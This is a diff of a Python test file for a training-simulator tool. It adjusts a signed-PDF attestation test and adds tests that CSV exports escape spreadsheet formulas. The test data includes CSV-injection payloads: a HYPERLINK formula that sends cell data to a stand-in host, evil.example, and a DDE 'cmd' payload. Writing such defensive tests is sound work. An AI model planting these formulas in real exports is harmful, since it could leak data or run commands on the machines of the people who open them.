@@ -236,7 +236,11 @@ def test_attest_pdf_and_verify(trained: Path, capsys: pytest.CaptureFixture[str]
     assert code == 0 and "VALIDE" in out and "Élodie Dupont" in out
     again = trained / "again.pdf"
     assert run(capsys, *PACKS, "attest", "-o", str(again), "--date", "2026-11-23")[0] == 0
-    assert again.read_bytes() == target.read_bytes()  # byte-identical for the same store
+    # The same store gives the same document, byte for byte; the appended PDF signature records
+    # when it was made.
+    first_revision = target.read_bytes().index(b"%%EOF") + 5
+    assert again.read_bytes()[:first_revision] == target.read_bytes()[:first_revision]
+    assert run(capsys, "verify", str(again))[0] == 0
 
 
 def test_verify_pins_the_key(trained: Path, capsys: pytest.CaptureFixture[str]) -> None:
@@ -332,3 +336,49 @@ def test_fixture_packs_are_valid() -> None:
     assert main(["validate", "--no-cache", *[str(p) for p in PACK_DIRS]]) == 0
     assert (FIXTURES / "appels" / "pack.yaml").exists()
     assert os.environ.get("RELANCE_HOME")
+
+
+# --------------------------------------------------------------------------- CSV formula injection
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1;"clic")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
+
+
+def test_neutralise_follows_owasp() -> None:
+    from simulator.records.export import neutralise
+
+    for value in (*FORMULAS, "\t=1+1", "\r=1+1", "  =1+1", "\n@x", "=", "-"):
+        assert neutralise(value) == "'" + value
+    for value in ("Dupont", "", " Dupont", "'=déjà", "2026-11-23", "a=b", "sha256:ab", 12, -2.5, None):
+        assert neutralise(value) == value
+
+
+@pytest.mark.parametrize("excel", [False, True], ids=["rfc4180", "excel"])
+def test_csv_exports_neutralise_formulas(tmp_path: Path, relance_home: Path, capsys: pytest.CaptureFixture[str],
+                                         good_replies: list[str], excel: bool) -> None:
+    replies = tmp_path / "replies.txt"
+    replies.write_text("=1+1 bonjour\n" + "\n".join(good_replies[1:3]) + "\n", encoding="utf-8")
+    for index, name in enumerate(FORMULAS):
+        assert run(capsys, "trainee", "add", f"--nom={name}", "--prenom", f"P{index}", "--organisation", "@org",
+                   "--use")[0] == 0
+        assert run(capsys, *PACKS, "call", "leroy-premier-appel", "--replies", str(replies), "--record")[0] == 0
+    for extra in ([], ["--items"]):
+        out = tmp_path / "export.csv"
+        args = ["export", "-o", str(out), *extra] + (["--excel"] if excel else [])
+        assert run(capsys, *args)[0] == 0
+        text = out.read_text(encoding="utf-8-sig")
+        rows = list(csv.DictReader(io.StringIO(text), delimiter=";" if excel else ","))
+        assert rows
+        for row in rows:
+            for column, value in row.items():
+                # No cell a spreadsheet would evaluate…
+                assert not value.lstrip(" \t\r\n")[:1] in ("=", "+", "@") or value.startswith("'"), (column, value)
+                if value.startswith("-"):
+                    float(value.replace(",", "."))  # …a leading minus only on a number Relance wrote
+        # …and the text is all there, behind the apostrophe.
+        names = {row["nom"] for row in rows}
+        assert names == {"'" + name for name in FORMULAS}
+        if extra:
+            assert "'=1+1 bonjour" in {row["response"] for row in rows}
+        else:
+            assert {row["organisation"] for row in rows} == {"'@org"}
+            assert all(float(row["score"].replace(",", ".")) >= 0 for row in rows)
